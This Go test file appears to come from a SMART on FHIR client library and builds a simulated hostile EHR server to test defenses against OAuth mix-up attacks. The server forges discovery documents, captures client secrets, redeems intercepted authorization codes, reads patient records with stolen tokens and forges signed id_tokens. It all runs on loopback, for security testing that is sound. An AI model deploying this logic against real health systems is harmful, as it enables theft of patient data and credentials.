package attacks

import (
	"crypto/rand"
	"crypto/rsa"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/go-jose/go-jose/v4/jwt"

	"github.com/fhirware/smart/core/smarttest"
)

// hostileEHR is an "EHR" run by an attacker: its discovery document says
// whatever the attack needs, its authorize endpoint forwards the app's
// request to an honest EHR (or answers by itself), and its token endpoint
// counts every request that reaches it, redeems what it was sent at the
// honest EHR and reads that EHR's patient with the stolen token.
type hostileEHR struct {
	t      *testing.T
	srv    *httptest.Server
	honest *smarttest.Server
	key    *rsa.PrivateKey

	// discovery returns the smart-configuration; the default claims the
	// honest EHR's issuer and key set with the attacker's own authorize and
	// token endpoints (the mix-up of the threat model).
	discovery func(h *hostileEHR) map[string]any
	// forge makes the authorize endpoint answer the app itself, and the
	// token endpoint issue an id_token signed with the attacker's key that
	// claims the honest issuer and the subject "victim-admin".
	forge bool
	// redirectURI, when set, replaces the redirect_uri of the request the
	// authorize endpoint forwards.
	redirectURI string

	mu            sync.Mutex
	tokenRequests int
	secrets       []string // client_secret and Authorization values it was sent
	stolenReads   int      // honest-EHR FHIR reads made with a stolen token
	nonce         string
}

func newHostileEHR(t *testing.T, honest *smarttest.Server) *hostileEHR {
	t.Helper()
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	h := &hostileEHR{t: t, honest: honest, key: key, discovery: claimHonestIssuer}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /fhir/.well-known/smart-configuration", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, h.discovery(h))
	})
	mux.HandleFunc("GET /auth/authorize", h.serveAuthorize)
	mux.HandleFunc("POST /auth/token", h.serveToken)
	mux.HandleFunc("GET /auth/jwks", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, jose.JSONWebKeySet{Keys: []jose.JSONWebKey{{Key: &key.PublicKey, KeyID: "evil", Algorithm: "RS256", Use: "sig"}}})
	})
	h.srv = httptest.NewServer(mux)
	t.Cleanup(h.srv.Close)
	return h
}

// FHIRBaseURL is the iss the attacker launches the app with.
func (h *hostileEHR) FHIRBaseURL() string { return h.srv.URL + "/fhir" }

// AuthIssuer is the attacker's own authorization server identity.
func (h *hostileEHR) AuthIssuer() string { return h.srv.URL + "/auth" }

// TokenRequests counts the requests that reached the attacker's token
// endpoint: each one carried a code, a PKCE verifier and maybe a secret.
func (h *hostileEHR) TokenRequests() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.tokenRequests
}

// StolenReads counts the honest EHR's FHIR reads the attacker made with a
// token it obtained.
func (h *hostileEHR) StolenReads() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.stolenReads
}

// Secrets returns the client secrets (and Authorization headers) the
// attacker's token endpoint was sent.
func (h *hostileEHR) Secrets() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.secrets...)
}

// claimHonestIssuer is the discovery of the mix-up: the honest EHR's
// issuer and key set, the attacker's authorize and token endpoints.
func claimHonestIssuer(h *hostileEHR) map[string]any {
	return map[string]any{
		"issuer":                 h.honest.AuthIssuer(),
		"jwks_uri":               h.honest.JWKSURL(),
		"authorization_endpoint": h.srv.URL + "/auth/authorize",
		"token_endpoint":         h.srv.URL + "/auth/token",
		"capabilities":           []string{"launch-ehr", "client-public"},
	}
}

// claimHonestIssuerOwnKeys is the forged identity: the honest EHR's issuer
// with the attacker's own key set.
func claimHonestIssuerOwnKeys(h *hostileEHR) map[string]any {
	d := claimHonestIssuer(h)
	d["jwks_uri"] = h.srv.URL + "/auth/jwks"
	return d
}

// ownOrigin is the classic mix-up: a discovery that names only the
// attacker's own origin, whose authorize endpoint forwards to the honest
// EHR.
func ownOrigin(h *hostileEHR) map[string]any {
	return map[string]any{
		"issuer":                 h.AuthIssuer(),
		"jwks_uri":               h.srv.URL + "/auth/jwks",
		"authorization_endpoint": h.srv.URL + "/auth/authorize",
		"token_endpoint":         h.srv.URL + "/auth/token",
	}
}

// honestTokenEndpoint claims the honest EHR's issuer, keys and authorize
// endpoint, and only the token endpoint is the attacker's.
func honestTokenEndpoint(h *hostileEHR) map[string]any {
	d := claimHonestIssuer(h)
	d["authorization_endpoint"] = h.honest.AuthorizeURL()
	return d
}

// elsewhere sends the browser to an origin the attacker picks.
func elsewhere(h *hostileEHR) map[string]any {
	d := ownOrigin(h)
	d["authorization_endpoint"] = "https://phishing.example/login"
	return d
}

func (h *hostileEHR) serveAuthorize(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	h.mu.Lock()
	h.nonce = q.Get("nonce")
	h.mu.Unlock()
	if h.forge {
		back, err := url.Parse(q.Get("redirect_uri"))
		if err != nil {
			http.Error(w, "bad redirect_uri", http.StatusBadRequest)
			return
		}
		bq := back.Query()
		bq.Set("code", "forged-code")
		bq.Set("state", q.Get("state"))
		bq.Set("iss", h.honest.AuthIssuer())
		back.RawQuery = bq.Encode()
		http.Redirect(w, r, back.String(), http.StatusFound)
		return
	}
	q.Set("aud", h.honest.FHIRBaseURL())
	if h.redirectURI != "" {
		q.Set("redirect_uri", h.redirectURI)
	}
	http.Redirect(w, r, h.honest.AuthorizeURL()+"?"+q.Encode(), http.StatusFound)
}

func (h *hostileEHR) serveToken(w http.ResponseWriter, r *http.Request) {
	r.ParseForm()
	h.mu.Lock()
	h.tokenRequests++
	if s := r.PostForm.Get("client_secret"); s != "" {
		h.secrets = append(h.secrets, s)
	}
	if a := r.Header.Get("Authorization"); a != "" {
		h.secrets = append(h.secrets, a)
	}
	nonce := h.nonce
	h.mu.Unlock()
	if h.forge {
		now := time.Now()
		idToken := h.sign(map[string]any{
			"iss": h.honest.AuthIssuer(), "sub": "victim-admin", "aud": r.PostForm.Get("client_id"),
			"nonce": nonce, "iat": now.Unix(), "exp": now.Add(time.Hour).Unix(),
			"fhirUser": h.honest.FHIRBaseURL() + "/Practitioner/prac-1",
		})
		writeJSON(w, map[string]any{"access_token": "forged-access", "token_type": "Bearer", "expires_in": 3600,
			"scope": "launch openid fhirUser patient/*.read", "patient": "pat-1", "id_token": idToken})
		return
	}
	// Redeem what the app sent at the honest EHR, and use the token.
	resp, err := http.PostForm(h.honest.TokenURL(), r.PostForm)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	var tr struct {
		AccessToken string `json:"access_token"`
		Patient     string `json:"patient"`
	}
	if json.Unmarshal(body, &tr) == nil && tr.AccessToken != "" && tr.Patient != "" {
		req, _ := http.NewRequest(http.MethodGet, h.honest.FHIRBaseURL()+"/Patient/"+tr.Patient, nil)
		req.Header.Set("Authorization", "Bearer "+tr.AccessToken)
		if res, err := http.DefaultClient.Do(req); err == nil {
			io.Copy(io.Discard, res.Body)
			res.Body.Close()
			if res.StatusCode == http.StatusOK {
				h.mu.Lock()
				h.stolenReads++
				h.mu.Unlock()
			}
		}
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(resp.StatusCode)
	w.Write(body)
}

func (h *hostileEHR) sign(claims map[string]any) string {
	signer, err := jose.NewSigner(jose.SigningKey{Algorithm: jose.RS256, Key: h.key},
		(&jose.SignerOptions{}).WithType("JWT").WithHeader("kid", "evil"))
	if err != nil {
		h.t.Fatal(err)
	}
	s, err := jwt.Signed(signer).Claims(claims).Serialize()
	if err != nil {
		h.t.Fatal(err)
	}
	return s
}

func writeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(v)
}

// hostileLaunchURL is the attacker's launch of the app: iss names the
// attacker, launch is a real launch of the honest EHR, which the attacker's
// authorize endpoint passes on.
func (e *env) hostileLaunchURL(h *hostileEHR, patient string) string {
	id := h.honest.NewLaunch(smarttest.LaunchContext{Patient: patient, FHIRUser: "Practitioner/prac-1"})
	return e.url("/fhir/launch?iss=" + url.QueryEscape(h.FHIRBaseURL()) + "&launch=" + url.QueryEscape(id))
}

// followAll follows redirects across every server until an answer that is
// not a redirect, and returns it with the responses of the app it saw.
func (b *browser) followAll(rawURL string) *response {
	b.e.t.Helper()
	var last *response
	for range 10 {
		last = b.get(rawURL)
		if last.StatusCode < 300 || last.StatusCode > 399 {
			return last
		}
		loc, err := last.Request.URL.Parse(last.Header.Get("Location"))
		if err != nil {
			b.e.t.Fatal(err)
		}
		if !strings.HasPrefix(loc.Scheme, "http") || loc.Hostname() != "127.0.0.1" {
			return last // never leave loopback
		}
		rawURL = loc.String()
	}
	b.e.t.Fatal("too many redirects")
	return nil
}
